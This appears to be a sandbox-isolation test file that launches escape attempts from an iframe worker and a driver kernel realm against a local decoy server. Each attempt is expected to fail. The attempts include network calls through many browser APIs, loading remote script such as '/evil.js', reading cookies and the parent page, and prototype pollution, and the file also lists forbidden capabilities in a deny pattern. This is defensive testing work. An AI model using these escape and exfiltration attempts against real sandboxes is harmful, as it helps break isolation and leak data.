// SPDX-License-Identifier: GPL-2.0-or-later
/** Attacks on the border around drivers: nothing may leave the frame, and little is left in it. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { CDPSession, Frame } from 'playwright-core';
import { afterAll, expect } from 'vitest';

import { firstVisit, it, Playground, type Visit } from './playground.ts';

let visit: Visit;
let playground: Playground;
let stranger: Stranger;

it.beforeAll(async ({ browsing }) => {
  visit = await firstVisit(browsing);
  playground = await Playground.open(visit);
  stranger = await listen();
});
afterAll(async () => {
  await stranger[Symbol.asyncDispose]();
  await visit[Symbol.asyncDispose]();
});

interface Stranger extends AsyncDisposable {
  readonly url: string;
  readonly hits: readonly string[];
}

/** A server that nobody should reach, and that would let anybody in. */
async function listen(): Promise<Stranger> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.end('globalThis.stranger = true;');
  });
  server.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    [Symbol.asyncDispose]: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

function sandbox(): Frame {
  const frame = playground.page.frames().find((each) => each.url() === 'about:srcdoc');
  if (frame === undefined) throw new Error('the page has no sandboxed frame');
  return frame;
}

/** Evaluates in the very realm in which drivers run. */
async function inKernel(expression: string): Promise<unknown> {
  const session: CDPSession = await visit.browser.context.newCDPSession(sandbox());
  const answer = new Promise<unknown>((resolve) => {
    session.on('Target.receivedMessageFromTarget', ({ message }) => {
      const { id, result } = JSON.parse(message) as {
        id?: number;
        result?: { result: { value?: unknown } };
      };
      if (id === 1) resolve(result?.result.value);
    });
  });
  session.on('Target.attachedToTarget', ({ sessionId }) => {
    const params = { expression, returnByValue: true, awaitPromise: true };
    const message = JSON.stringify({ id: 1, method: 'Runtime.evaluate', params });
    void session.send('Target.sendMessageToTarget', { sessionId, message });
  });
  await session.send('Target.setAutoAttach', {
    autoAttach: true,
    waitForDebuggerOnStart: false,
    flatten: false,
  });
  const value = await answer;
  await session.detach();
  return value;
}

/** Context: a worker of the frame, before anything was taken from it. */
const ATTACK = `
  const tries = {
    fetch: () => fetch(url + '/fetch'),
    beacon: () => navigator.sendBeacon?.(url + '/beacon') || Promise.reject(),
    xhr: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = reject;
      request.open('GET', url + '/xhr');
      request.send();
    }),
    socket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket(url.replace('http', 'ws') + '/socket');
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
    events: () => new Promise((resolve, reject) => {
      const source = new EventSource(url + '/events');
      source.onopen = resolve;
      source.onerror = reject;
    }),
    module: () => import(url + '/module.js'),
    script: async () => importScripts(url + '/script.js'),
    font: () => new FontFace('stranger', 'url(' + url + '/font)').load(),
    nested: () => new Promise((resolve, reject) => {
      const code = 'fetch(' + JSON.stringify(url + '/nested') + ')' +
        '.then(() => postMessage(true), () => postMessage(false))';
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = (event) => (event.data ? resolve() : reject());
      worker.onerror = reject;
    }),
    database: () => new Promise((resolve, reject) => {
      const request = indexedDB.open('stranger');
      request.onsuccess = resolve;
      request.onerror = reject;
    }),
    caches: () => caches.open('stranger'),
    code: async () => new Function('return 1')(),
  };
  const worked = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      worked.push(name);
    } catch {}
  }
  postMessage(worked);
`;

it('lets no worker of the frame reach a network, a store or eval', async () => {
  const worked = await sandbox().evaluate(
    ([code, url]) =>
      new Promise((resolve) => {
        const text = `const url = ${JSON.stringify(url)}; (async () => {${code}})();`;
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.addEventListener('message', (event) => {
          worker.terminate(); // Else the tests below might look into this one.
          resolve(event.data);
        });
      }),
    [ATTACK, stranger.url],
  );

  expect(worked).toEqual([]);
  await fetch(`${stranger.url}/ours`); // The server does log: so the silence above means something.
  expect(stranger.hits).toEqual(['/ours']);
});

it('gives the frame an origin of its own', async () => {
  const reached = await sandbox().evaluate(() => {
    const tries = {
      cookie: () => document.cookie,
      storage: () => localStorage.length,
      parent: () => parent.document.title,
    };
    return Object.entries(tries).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [name];
      } catch {
        return [];
      }
    });
  });
  expect(reached).toEqual([]);
});

it('leaves a driver the language and nothing of the browser', async () => {
  const names = await inKernel(`(() => {
    const names = [];
    for (let holder = globalThis; holder !== Object.prototype; ) {
      names.push(...Object.getOwnPropertyNames(holder));
      holder = Object.getPrototypeOf(holder);
    }
    return names;
  })()`);
  expect(names).toContain('Map');
  const forbidden = [
    /fetch|XMLHttp|Socket|Event|import|message|URL|Blob|Worker|Broadcast|navigator/i,
    /indexedDB|caches|crypto|performance|console|Timeout|Interval|^Date$|Promise/i,
    /^eval$|Function|Proxy|Reflect|WebAssembly|Atomics|SharedArray|Weak(?:Ref)|Intl/,
  ];
  const left = (names as string[]).filter((name) => forbidden.some((each) => each.test(name)));
  expect(left).toEqual([]);
});

it('freezes what is left', async () => {
  const changed = await inKernel(`(() => {
    'use strict';
    const tries = {
      prototype: () => { Array.prototype.push = () => 0; },
      object: () => { Object.prototype.polluted = true; },
      generator: () => { Object.getPrototypeOf(function* () {}).prototype.next = () => 0; },
      global: () => { globalThis.Map = class {}; },
      extra: () => { globalThis.extra = 1; },
      code: () => (function () {}).constructor('return 1')(),
    };
    const changed = [];
    for (const name of Object.keys(tries)) {
      try { tries[name](); changed.push(name); } catch {}
    }
    return changed;
  })()`);
  expect(changed).toEqual([]);
});

it('imports nothing from elsewhere into the realm of the kernel', async () => {
  const hits = stranger.hits.length;
  const answer = await inKernel(
    `import(${JSON.stringify(`${stranger.url}/evil.js`)}).then(() => 'imported', () => 'refused')`,
  );
  expect(answer).toBe('refused');
  expect(stranger.hits).toHaveLength(hits);
});
